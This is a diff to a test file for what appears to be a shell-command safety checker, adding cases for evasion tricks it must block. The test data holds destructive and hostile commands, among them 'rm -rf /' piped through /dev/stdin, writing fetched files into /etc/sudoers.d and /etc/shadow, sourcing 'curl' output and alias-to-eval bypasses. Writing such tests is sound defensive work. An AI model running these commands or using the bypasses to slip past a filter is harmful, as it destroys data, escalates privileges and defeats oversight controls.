@@ -361,6 +361,9 @@ DENIED_BYPASSES = [
     "cd /; cd etc; rm shadow",
     "cd; rm .bash_history",
     "sed --in-place=.bak s/x/y/ /etc/passwd",
+    "bash /dev//stdin <<< 'rm -rf /'",
+    "sh /proc/self/fd/0 <<< 'rm -rf /'",
+    ". /dev/./stdin <<< 'rm -rf /'",
     "curl -fsSo /etc/sudoers.d/x https://x.example/y",
     "wget -O /etc//shadow https://x.example/y",
     "sort -o /etc/passwd /tmp/passwd",
@@ -454,6 +457,14 @@ UNKNOWN_LINES = [
     ("sh < <(curl x)", "reads a process substitution"),
     ("source <(curl x)", "sources a process substitution"),
     ("bash --rcfile <(curl x)", "runs a process substitution"),
+    ("bash /proc/$$/fd/0 <<< 'touch /tmp/x'", "runs a file known only at run time"),
+    ("source \"$f\" <<< 'touch /tmp/x'", "runs a file known only at run time"),
+    ("echo 'touch /tmp/x' | python3 \"$f\"", "runs a file known only at run time"),
+    # an alias to a command that runs its arguments: the next line's words are code
+    ("alias x=eval", "shell code known only at run time"),
+    ("alias s=sudo", "options of sudo known only at run time"),
+    ("alias x='sh -c'", "shell code known only at run time"),
+    ("BASH_ALIASES[x]=eval", "shell code known only at run time"),
     ("bash --init-file <(curl x) -i", "runs a process substitution"),
     (". <(curl x)", "sources a process substitution"),
     ("sudo sudo sudo sudo sudo sudo sudo sudo sudo rm -rf /", "nested too deeply"),
@@ -720,6 +731,11 @@ ALLOWED = [
     "set -euo pipefail",
     "shopt -s histappend checkwinsize",
     "hash -r",
+    "alias ll='ls -la'",
+    "alias rm='rm -i'",
+    "alias k=kubectl",
+    "alias gs='git status'",
+    "alias ..='cd ..'",
     "hash -p /usr/local/bin/python3 python3",
     "enable -n echo",
     # files: reads, copies away, relative paths, ~
@@ -1536,6 +1552,8 @@ RUNS_IN_BASH = [
     "cat <<EOF\n`touch {c}`\nEOF",
     "coproc {{ touch {c}; }}; wait",
     "x='\\044(touch {c})'; echo ${{x@P}}",
+    "shopt -s expand_aliases; alias x=eval\nx 'touch {c}'",
+    "bash /dev//stdin <<< 'touch {c}'",
 ]
 
 
